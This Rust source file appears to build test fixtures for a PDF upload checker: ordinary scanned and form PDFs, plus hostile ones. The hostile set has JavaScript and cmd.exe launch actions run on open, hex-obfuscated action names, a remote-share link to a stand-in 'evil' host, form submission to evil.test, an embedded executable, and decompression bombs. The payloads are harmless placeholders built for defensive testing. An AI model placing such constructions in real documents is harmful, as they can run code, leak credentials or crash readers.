//! PDFs, put together by hand: ordinary ones as scanners and programs make them, and hostile ones.

use std::io::Write as _;

use domain::paper::PaperFlaw;
use flate2::{Compression, write::ZlibEncoder};

use super::{
    files::{File, file},
    pictures,
};

/// A PDF of these objects, numbered from 1, the first its catalogue; with a table, and something more in its trailer.
fn pdf(version: &str, objects: &[Vec<u8>], trailer: &str) -> Vec<u8> {
    let mut bytes = format!("%PDF-{version}\n%\u{e5}\u{e4}\u{f6}\n").into_bytes();
    let mut places = Vec::new();
    for (number, object) in (1..).zip(objects) {
        places.push(bytes.len());
        writeln!(bytes, "{number} 0 obj").unwrap();
        bytes.extend(object);
        bytes.extend(b"\nendobj\n");
    }
    let table = bytes.len();
    write!(bytes, "xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1).unwrap();
    for place in places {
        writeln!(bytes, "{place:010} 00000 n ").unwrap();
    }
    write!(bytes, "trailer\n<< /Size {} /Root 1 0 R {trailer} >>\nstartxref\n{table}\n%%EOF\n", objects.len() + 1)
        .unwrap();
    bytes
}

fn stream(dict: &str, content: &[u8]) -> Vec<u8> {
    [format!("<< {dict} /Length {} >>\nstream\n", content.len()).as_bytes(), content, b"\nendstream"].concat()
}

fn packed(content: &[u8]) -> Vec<u8> {
    let mut packer = ZlibEncoder::new(Vec::new(), Compression::best());
    packer.write_all(content).unwrap();
    packer.finish().unwrap()
}

/// One page with a few words; something more in catalogue, page and file.
fn with(catalogue: &str, page: &str, more: &[&str]) -> Vec<u8> {
    let mut objects = vec![
        format!("<< /Type /Catalog /Pages 2 0 R {catalogue} >>").into_bytes(),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_vec(),
        format!("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R {page} >>").into_bytes(),
        stream("", b"BT /F1 12 Tf 72 720 Td (Samtycke) Tj ET"),
    ];
    objects.extend(more.iter().map(|object| object.as_bytes().to_vec()));
    pdf("1.7", &objects, "")
}

pub fn plain() -> Vec<u8> {
    with("", "", &[])
}

/// So many empty pages.
fn pages(count: usize) -> Vec<u8> {
    let kids: Vec<String> = (0..count).map(|page| format!("{} 0 R", page + 3)).collect();
    let mut objects = vec![
        b"<< /Type /Catalog /Pages 2 0 R >>".to_vec(),
        format!("<< /Type /Pages /Kids [{}] /Count {count} >>", kids.join(" ")).into_bytes(),
    ];
    objects.extend((0..count).map(|_| b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>".to_vec()));
    pdf("1.4", &objects, "")
}

/// One page that is a photograph of a paper.
fn scanned(version: &str, width: u32, height: u32) -> Vec<u8> {
    let picture = pictures::jpeg(width, height);
    let dict = format!(
        "/Type /XObject /Subtype /Image /Width {width} /Height {height} /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /DCTDecode"
    );
    let objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>".to_vec(),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_vec(),
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /XObject << /Im0 5 0 R >> >> >>".to_vec(),
        stream("/Filter /FlateDecode", &packed(b"q 595 0 0 842 0 0 cm /Im0 Do Q")),
        stream(&dict, &picture),
    ];
    pdf(version, &objects, "/ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>]")
}

/// A paper of exactly so many bytes: what is missing stands in a stream nobody shows.
pub fn of_size(bytes: usize) -> Vec<u8> {
    let with_filler = |filler: usize| {
        let objects = [
            b"<< /Type /Catalog /Pages 2 0 R >>".to_vec(),
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_vec(),
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>".to_vec(),
            stream("", &vec![b' '; filler]),
        ];
        pdf("1.4", &objects, "")
    };
    let near = with_filler(bytes - 2_000).len();
    with_filler(2 * bytes - 2_000 - near)
}

pub fn ordinary() -> Vec<File> {
    let pdf_file = |what: &str, bytes| file(what, "Blankett.PDF", "application/pdf", bytes);
    let mut all: Vec<File> = ["1.0", "1.3", "1.4", "1.5", "1.6", "1.7", "2.0"]
        .iter()
        .map(|version| pdf_file(&format!("a scan, {version}"), scanned(version, 600, 850)))
        .collect();
    all.extend([
        pdf_file("a plain page", plain()),
        pdf_file(
            "colours mixed as on a screen",
            with("", "/Resources << /ExtGState << /G 5 0 R >> >>", &["<< /Type /ExtGState /BM /Screen >>"]),
        ),
        pdf_file("fifty pages", pages(50)),
        pdf_file("a scan of 300 to the inch", scanned("1.4", 2480, 3508)),
        pdf_file("opens at its first page", with("/OpenAction [3 0 R /XYZ null null 1]", "", &[])),
        pdf_file(
            "a language and a title",
            with("/Lang (sv-SE) /ViewerPreferences << /DisplayDocTitle true >>", "", &[]),
        ),
        pdf_file(
            "bookmarks",
            with(
                "/Outlines 5 0 R",
                "",
                &[
                    "<< /Type /Outlines /First 6 0 R /Last 6 0 R /Count 1 >>",
                    "<< /Title (Samtycke) /Parent 5 0 R /Dest [3 0 R /Fit] >>",
                ],
            ),
        ),
        pdf_file(
            "a link within it",
            with(
                "",
                "/Annots [5 0 R]",
                &["<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoTo /D [3 0 R /Fit] >> >>"],
            ),
        ),
        pdf_file(
            "a link out of it",
            with(
                "",
                "/Annots [5 0 R]",
                &["<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://www.imy.se) >> >>"],
            ),
        ),
        pdf_file(
            "a field that was filled in",
            with(
                "/AcroForm << /Fields [5 0 R] >>",
                "/Annots [5 0 R]",
                &["<< /Type /Annot /Subtype /Widget /FT /Tx /T (namn) /V (Rut) /Rect [0 0 90 9] >>"],
            ),
        ),
        pdf_file(
            "tagged",
            with("/MarkInfo << /Marked true >> /StructTreeRoot 5 0 R", "", &["<< /Type /StructTreeRoot >>"]),
        ),
        pdf_file("a space after its end", [plain(), b" \r\n\0".to_vec()].concat()),
        pdf_file(
            "a note on it",
            with("", "/Annots [5 0 R]", &["<< /Type /Annot /Subtype /Text /Rect [0 0 9 9] /Contents (Kopia) >>"]),
        ),
    ]);
    all
}

/// Something happens by itself, or another file is in it.
fn acting() -> Vec<(&'static str, Vec<u8>)> {
    let act = |action: &str| with(&format!("/OpenAction << {action} >>"), "", &[]);
    vec![
        ("a script when it opens", act("/S /JavaScript /JS (app.alert(1))")),
        ("a script whose name is written in numbers", act("/S /J#61vaScript /J#53 (app.alert(1))")),
        ("a program when it opens", act("/S /Launch /F (cmd.exe)")),
        ("a program whose name is written in numbers", act("/S /L#61unch /F (cmd.exe)")),
        ("another file when it opens", act("/S /GoToR /F (\\\\\\\\evil\\\\share)")),
        ("a file inside it when it opens", act("/S /GoToE /T << /R /C >>")),
        ("a place in it by an action", act("/S /GoTo /D [3 0 R /Fit]")),
        ("sends what is filled in", act("/S /SubmitForm /F (https://evil.test)")),
        ("takes data in", act("/S /ImportData /F (x.fdf)")),
        ("a sound", act("/S /Sound /Sound 5 0 R")),
        ("a film", act("/S /Movie")),
        ("a rendition", act("/S /Rendition /OP 0")),
        ("an action by a reference", with("/OpenAction 5 0 R", "", &["<< /S /JavaScript /JS (1) >>"])),
        (
            "scripts in its list of names",
            with("/Names << /JavaScript << /Names [(a) 5 0 R] >> >>", "", &["<< /S /JavaScript /JS (1) >>"]),
        ),
        (
            "a file in its list of names",
            with(
                "/Names << /EmbeddedFiles << /Names [(a) 5 0 R] >> >>",
                "",
                &["<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>"],
            ),
        ),
        ("an action when a page opens", with("", "/AA << /O << /S /Named /N /Print >> >>", &[])),
        ("an action of the file", with("/AA << /WC << /S /Named /N /Print >> >>", "", &[])),
        (
            "a script behind a link",
            with(
                "",
                "/Annots [5 0 R]",
                &["<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /JavaScript /JS (1) >> >>"],
            ),
        ),
        (
            "a script by an address",
            with(
                "",
                "/Annots [5 0 R]",
                &["<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (javascript:alert(1)) >> >>"],
            ),
        ),
        (
            "a kind of action named by its number",
            with(
                "",
                "/Annots [5 0 R]",
                &["<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S 6 0 R /F (x) >> >>", "/Launch"],
            ),
        ),
        (
            "a script one step later",
            with(
                "",
                "/Annots [5 0 R]",
                &[
                    "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoTo /D [3 0 R /Fit] /Next << /S /JavaScript /JS (1) >> >> >>",
                ],
            ),
        ),
        (
            "a field that acts",
            with(
                "/AcroForm << /Fields [5 0 R] >>",
                "",
                &["<< /FT /Tx /T (a) /AA << /K << /S /JavaScript /JS (1) >> >> >>"],
            ),
        ),
        (
            "a form of another kind",
            with("/AcroForm << /XFA [(template) 5 0 R] >>", "", &["<< /Length 0 >>\nstream\n\nendstream"]),
        ),
        (
            "a file hung on to a page",
            with("", "/Annots [5 0 R]", &["<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] >>"]),
        ),
        ("rich media", with("", "/Annots [5 0 R]", &["<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>"])),
        ("three dimensions", with("", "/Annots [5 0 R]", &["<< /Type /Annot /Subtype /3D /Rect [0 0 9 9] >>"])),
        ("a screen", with("", "/Annots [5 0 R]", &["<< /Type /Annot /Subtype /Screen /Rect [0 0 9 9] >>"])),
        (
            "a script no table leads to",
            [plain(), b"9 0 obj << /S /JavaScript /JS (1) >> endobj\n%%EOF\n".to_vec()].concat(),
        ),
        ("a page inside it", with("", "", &["<< /Length 30 >>\nstream\n<script>alert(1)</script>     \nendstream"])),
    ]
}

pub fn hostile() -> Vec<(File, PaperFlaw)> {
    let mut all = Vec::new();
    let mut add = |what: &str, bytes, why| all.push((file(what, "a.pdf", "application/pdf", bytes), why));
    for (what, bytes) in acting() {
        add(what, bytes, PaperFlaw::Active);
    }
    // Locked.
    let filter = "<< /Filter /Standard /V 1 /R 2 /O <00> /U <00> /P -4 >>";
    let objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>".to_vec(),
        b"<< /Type /Pages /Kids [] /Count 0 >>".to_vec(),
        filter.as_bytes().to_vec(),
    ];
    add("locked", pdf("1.4", &objects, "/Encrypt 3 0 R"), PaperFlaw::Locked);
    add("locked, in its trailer", pdf("1.4", &objects, &format!("/Encrypt{filter}")), PaperFlaw::Locked);
    // Too much.
    add("fifty-one pages", pages(51), PaperFlaw::TooManyPages);
    let bomb = stream("/Filter /FlateDecode", &packed(&vec![0; 70 * 1024 * 1024]));
    add(
        "a stream that swells",
        pdf(
            "1.4",
            &[
                b"<< /Type /Catalog /Pages 2 0 R >>".to_vec(),
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_vec(),
                b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>".to_vec(),
                bomb,
            ],
            "",
        ),
        PaperFlaw::TooMuch,
    );
    let piece = stream("/Filter [/FlateDecode]", &packed(&vec![0; 60 * 1024 * 1024]));
    let mut many = vec![
        b"<< /Type /Catalog /Pages 2 0 R >>".to_vec(),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_vec(),
        b"<< /Type /Page /Parent 2 0 R >>".to_vec(),
    ];
    many.extend(std::iter::repeat_n(piece, 5));
    add("streams that swell together", pdf("1.4", &many, ""), PaperFlaw::TooMuch);
    // Broken.
    let plain = plain();
    add("cut in the middle", plain[..plain.len() / 2].to_vec(), PaperFlaw::Broken);
    add("without its end", plain[..plain.len() - 6].to_vec(), PaperFlaw::Broken);
    add("its mark alone", b"%PDF-1.7\n%%EOF".to_vec(), PaperFlaw::Broken);
    add("no pages", pages(0), PaperFlaw::Broken);
    add("a table that leads nowhere", b"%PDF-1.4\nstartxref\n99999999\n%%EOF".to_vec(), PaperFlaw::Broken);
    add("something behind its end", [plain.as_slice(), b"PK\x03\x04 Main.class"].concat(), PaperFlaw::Broken);
    add("no catalogue", pdf("1.4", &[b"<< /Type /Pages /Kids [] /Count 0 >>".to_vec()], ""), PaperFlaw::Broken);
    all
}
